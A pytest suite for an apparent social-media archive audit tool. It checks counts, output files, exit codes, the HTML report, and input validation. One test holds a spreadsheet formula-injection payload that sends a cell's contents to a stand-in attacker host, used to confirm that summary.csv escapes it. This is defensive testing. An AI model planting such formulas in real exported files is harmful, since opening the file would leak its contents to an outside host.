"""The audit pipeline end to end: counts add up, files are written, exit codes, report, both engines agree."""

from __future__ import annotations

import csv
import json
import re
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from onrecord.api.audit import AuditOptions, read_summary, run_audit
from onrecord.api.runners import EngineSpec, check_encoded, run_local
from onrecord.cli.main import cli
from onrecord.importers import UnusableInput

FIX = Path(__file__).parent / "fixtures" / "exports"
GOOD = [
    "x-archive.zip",
    "mastodon-archive.tar.gz",
    "bluesky-repo.car",
    "linkedin-export.zip",
    "facebook-export.zip",
    "threads_and_replies.json",
    "posts.jsonl",
]


def _lines(path: Path) -> list[dict]:
    return [json.loads(x) for x in path.read_text("utf-8").splitlines() if x.strip()]


@pytest.fixture(scope="module")
def audited(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, object]:
    out = tmp_path_factory.mktemp("audit")
    accounts = out / "accounts.csv"
    accounts.write_text(
        "handle,kind,role,organisation,jurisdiction\n@RoadsDeptExample,official,employee,Example Roads Department,US\n"
    )
    res = CliRunner().invoke(
        cli, ["audit", *(str(FIX / f) for f in GOOD), "--out", str(out / "run"), "--workers", "2", "--accounts", str(accounts)]
    )
    return out / "run", res


def test_counts_add_up_and_every_record_is_accounted_for(audited: tuple[Path, object]) -> None:
    out, res = audited
    assert res.exit_code == 1, res.output  # the fixtures hold bad records on purpose
    results, rejects = _lines(out / "results.jsonl"), _lines(out / "rejects.jsonl")
    m = re.search(r"^read (\d+) = checked (\d+) \+ rejected (\d+)", res.output, re.M)
    assert m, res.output
    read, checked, rejected = map(int, m.groups())
    assert read == checked + rejected == len(results) + len(rejects)
    # (dates that cannot be read no longer reject their posts: an X tweet, a LinkedIn share, a Facebook post)
    assert (checked, rejected) == (len(results), len(rejects)) == (32, 5)
    for r in results:
        assert {"id", "code", "capacity", "allowed", "findings", "platform", "account", "posted_at", "action"} <= r.keys()
    for r in rejects:
        assert r["source"] and r["location"] and r["reason"]
    assert {r["platform"] for r in results} == {"x", "mastodon", "bluesky", "linkedin", "facebook", "threads"}
    shares = [r for r in results if r["action"] == "share"]
    assert len(shares) == 5  # X retweet, Mastodon Announce, Bluesky repost, LinkedIn and Facebook link shares


def test_accounts_file_gives_context(audited: tuple[Path, object]) -> None:
    out, _ = audited
    rows = {(r["platform"], r["account"]): r for r in read_summary(str(out / "summary.csv"))}
    roads = rows[("x", "@RoadsDeptExample")]
    assert roads["kind"] == "official" and roads["posts"] == "9" and roads["deleted"] == "1"
    results = [r for r in _lines(out / "results.jsonl") if r["account"] == "@RoadsDeptExample"]
    assert len(results) == 9
    assert all("jurisdiction US" in r["code_reason"] for r in results)  # the context reached the engine


def test_report_is_self_contained(audited: tuple[Path, object]) -> None:
    out, _ = audited
    html = (out / "report.html").read_text("utf-8")
    assert "<script" not in html.lower()
    assert not re.search(r"""(src|href)=['"]?(https?:)?//[^'"]*\.(css|js|png|svg|woff)""", html)  # nothing fetched
    assert html.count("<section id='acct-") == 8
    assert "<svg" in html and "Capacity mix" in html and "Timeline" in html
    assert "Purpose and value" in html  # the registered official account
    assert "Posts that need attention" in html
    assert "Pat Éxample" in html and "Ã" not in html  # mojibake repaired all the way to the report


def test_unusable_input_exits_2_without_traceback(tmp_path: Path) -> None:
    for bad in ["broken-corrupt.zip", "broken-unknown.txt", "broken-latin1.csv", "no-such-file.zip"]:
        res = CliRunner().invoke(cli, ["audit", str(FIX / "posts.jsonl"), str(FIX / bad), "--out", str(tmp_path / bad)])
        assert res.exit_code == 2, res.output
        assert "Traceback" not in res.output and "onrecord: error:" in res.output
        assert not (tmp_path / bad / "results.jsonl").exists()  # nothing written before the input was checked


def test_an_audit_never_reads_or_empties_its_own_output(tmp_path: Path) -> None:
    """An input that is one of the output files would be emptied before it was read; an output folder inside an
    input folder would be read back as input on the next run. Both are refused before anything is written."""
    same = tmp_path / "same"
    same.mkdir()
    posts = (FIX / "posts.jsonl").read_bytes()
    (same / "results.jsonl").write_bytes(posts)
    for args, says in [([str(same / "results.jsonl"), "--out", str(same)], "it would be emptied before it is read"),
                       ([str(same), "--out", str(same / "audit")], "would read its own results as input"),
                       ([str(same), "--out", str(same)], "would read its own results as input")]:
        res = CliRunner().invoke(cli, ["audit", *args])
        assert res.exit_code == 2 and says in res.output and "Traceback" not in res.output, res.output
    assert (same / "results.jsonl").read_bytes() == posts and sorted(p.name for p in same.iterdir()) == ["results.jsonl"]
    with pytest.raises(UnusableInput, match="emptied"):  # the API refuses it too
        run_audit(AuditOptions(paths=[str(same / "results.jsonl")], out_dir=str(same), workers=1))


def test_bad_accounts_file_exits_2(tmp_path: Path) -> None:
    bad = tmp_path / "accounts.csv"
    bad.write_text("handle,role\n@someone,king\n")
    res = CliRunner().invoke(cli, ["audit", str(FIX / "posts.jsonl"), "--accounts", str(bad), "--out", str(tmp_path / "o")])
    assert res.exit_code == 2 and "role 'king'" in res.output


def test_unknown_fields_are_reported_with_the_post_and_in_the_summary(tmp_path: Path) -> None:
    # The post contract: an unknown field is ignored and reported. A typo'd "jurisdicton" silently chose the default
    # pack before; now the result says so, as `check` does, and the run's summary line names it.
    src = tmp_path / "posts.jsonl"
    src.write_text('{"id": "a", "text": "Library hours.", "jurisdicton": "NZ"}\n{"id": "b", "text": "Pool hours."}\n'
                   '{"id": "c", "text": "Park hours.", "account": {"kind": "official", "foo[bold]": 1}}\n')
    res = CliRunner().invoke(cli, ["audit", str(src), "--out", str(tmp_path / "o"), "--workers", "1"])
    assert res.exit_code == 0, res.output
    by_id = {r["id"]: r["warnings"] for r in _lines(tmp_path / "o" / "results.jsonl")}
    assert by_id == {
        "a": [f"{src} line 1: unknown field 'jurisdicton' ignored"],
        "b": [],
        "c": [f"{src} line 3: unknown field 'account.foo[bold]' ignored"],
    }
    out = " ".join(res.output.split())
    assert "2 post(s) checked with a warning" in out and "'account.foo[bold]'" in out


def test_a_posted_at_that_is_no_time_is_a_warning_with_the_post(tmp_path: Path) -> None:
    # It was taken as a time without a word; now the post is checked without it and the result says so.
    src = tmp_path / "posts.jsonl"
    src.write_text('{"id": "a", "text": "Library hours.", "circumstances": {"posted_at": "last Tuesday"}}\n'
                   '{"id": "b", "text": "Pool hours.", "circumstances": {"posted_at": "2024-03-01T09:00:00Z"}}\n')
    res = CliRunner().invoke(cli, ["audit", str(src), "--out", str(tmp_path / "o"), "--workers", "1"])
    assert res.exit_code == 0, res.output
    by_id = {r["id"]: r for r in _lines(tmp_path / "o" / "results.jsonl")}
    assert by_id["a"]["warnings"] == [f"{src} line 1: posted_at 'last Tuesday' is not a date and time (ISO 8601, "
                                      "such as 2024-03-01T09:00:00Z); it is ignored"]
    assert by_id["b"]["warnings"] == [] and "1 post(s) checked with a warning" in " ".join(res.output.split())
    # The warned result keeps the line's post fields (adding the warnings dropped them), its time cleared.
    assert {k: by_id["a"][k] for k in ("platform", "account", "posted_at", "action")} == {
        "platform": "other", "account": "", "posted_at": None, "action": "post"}


def test_allow_rejects_and_check_failures_are_rejects(tmp_path: Path) -> None:
    # A post naming an unknown code cannot be checked: it is rejected with the reason, and counted.
    src = tmp_path / "posts.jsonl"
    src.write_text('{"id": "a", "text": "Library hours are changing."}\n{"id": "b", "text": "Hello", "code": "no-such-code"}\n')
    res = CliRunner().invoke(cli, ["audit", str(src), "--out", str(tmp_path / "o"), "--workers", "1"])
    assert res.exit_code == 1 and re.search(r"^read 2 = checked 1 \+ rejected 1", res.output, re.M)
    rej = _lines(tmp_path / "o" / "rejects.jsonl")
    assert rej[0]["location"] == "post b" and "check failed" in rej[0]["reason"]
    res = CliRunner().invoke(cli, ["audit", str(src), "--out", str(tmp_path / "o2"), "--workers", "1", "--allow-rejects"])
    assert res.exit_code == 0, res.output


def test_runner_is_ordered_and_bounded() -> None:
    spec = EngineSpec()
    posts = [json.dumps({"id": str(i), "text": f"Post number {i} about the library"}).encode() for i in range(1200)]
    pulled = 0

    def source():
        nonlocal pulled
        for p in posts:
            pulled += 1
            yield p

    seen = 0
    for n, (post_json, (ok, line)) in enumerate(run_local(source(), spec, workers=2, chunk=50, in_flight=3)):
        assert ok and post_json == posts[n] and json.loads(line)["id"] == str(n)
        assert pulled - n <= 50 * 3 + 50  # never more than in_flight chunks (+ the one being built) ahead
        seen += 1
    assert seen == 1200
    ok, msg = check_encoded(spec, b"{not json")
    assert not ok and msg.startswith(b"not a valid post")


@pytest.mark.slow
@pytest.mark.spark
def test_spark_and_local_give_identical_results(tmp_path: Path) -> None:
    pytest.importorskip("pyspark", reason="pyspark not installed: pip install 'onrecord[spark]'")
    if not shutil.which("java"):
        pytest.skip("Java is not installed (Spark needs Java 17)")
    from onrecord.api.runners import RunnerUnavailable, spark_session

    try:
        spark = spark_session(2)
    except RunnerUnavailable as e:
        pytest.skip(str(e))
    paths = [str(FIX / f) for f in GOOD]
    try:
        a = run_audit(AuditOptions(paths=paths, out_dir=str(tmp_path / "local"), workers=2))
        b = run_audit(AuditOptions(paths=paths, out_dir=str(tmp_path / "spark"), engine="spark", workers=2), spark=spark)
    finally:
        spark.stop()
    assert (a.counts.read, a.counts.checked, a.counts.rejected) == (b.counts.read, b.counts.checked, b.counts.rejected)
    assert (tmp_path / "local" / "results.jsonl").read_bytes() == (tmp_path / "spark" / "results.jsonl").read_bytes()
    assert (tmp_path / "local" / "rejects.jsonl").read_bytes() == (tmp_path / "spark" / "rejects.jsonl").read_bytes()
    assert (tmp_path / "local" / "summary.csv").read_bytes() == (tmp_path / "spark" / "summary.csv").read_bytes()


def test_map_mistakes_are_reported_not_ignored(tmp_path: Path) -> None:
    # A typo'd field name stopped nothing, and a mapped column missing from the file was read with the usual
    # names instead: the posts came out without their dates, and the audit said nothing.
    src = tmp_path / "posts.csv"
    src.write_text("body,when\nLibrary hours,2024-01-01\nPool hours,2024-01-02\n")
    res = CliRunner().invoke(cli, ["audit", str(src), "--out", str(tmp_path / "o"), "--map", "text=body", "--map", "posted=when"])
    assert res.exit_code == 2 and "unknown field 'posted'" in res.output and "posted_at" in res.output
    res = CliRunner().invoke(cli, ["audit", str(src), "--out", str(tmp_path / "o"), "--map", "text=body", "--map", "posted_at=whn"])
    assert res.exit_code == 1 and re.search(r"^read 1 = checked 0 \+ rejected 1", res.output, re.M)
    (rej,) = _lines(tmp_path / "o" / "rejects.jsonl")
    assert rej["location"] == "header" and "posted_at=whn: no such column (columns: body, when)" in rej["reason"]
    res = CliRunner().invoke(cli, ["audit", str(src), "--out", str(tmp_path / "o"), "--map", "text=body", "--map", "posted_at=when"])
    assert res.exit_code == 0 and [r["id"] for r in _lines(tmp_path / "o" / "results.jsonl")] == ["line-2", "line-3"]


def test_summary_csv_cells_cannot_run_as_formulas_and_read_back_exactly(tmp_path: Path) -> None:
    """A display name ``=HYPERLINK(...)`` from an imported archive reached summary.csv as a live formula."""
    evil = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    src = tmp_path / "posts.jsonl"
    src.write_text(json.dumps({"id": "1", "text": "Library hours are changing.", "platform": "x",
                               "account": {"handle": "@evil", "display_name": evil}}) + "\n")
    run_audit(AuditOptions(paths=[str(src)], out_dir=str(tmp_path / "o"), workers=1))
    with (tmp_path / "o" / "summary.csv").open(newline="", encoding="utf-8") as f:
        raw = next(csv.DictReader(f))
    assert raw["display_name"] == "'" + evil and raw["account"] == "'@evil"  # a spreadsheet shows it as text
    assert raw["posts"] == "1" and raw["posts_with_breach"] == "0"  # counts are numbers, never guarded
    back = read_summary(str(tmp_path / "o" / "summary.csv"))[0]
    assert back["display_name"] == evil and back["account"] == "@evil"  # the project's reader round-trips it
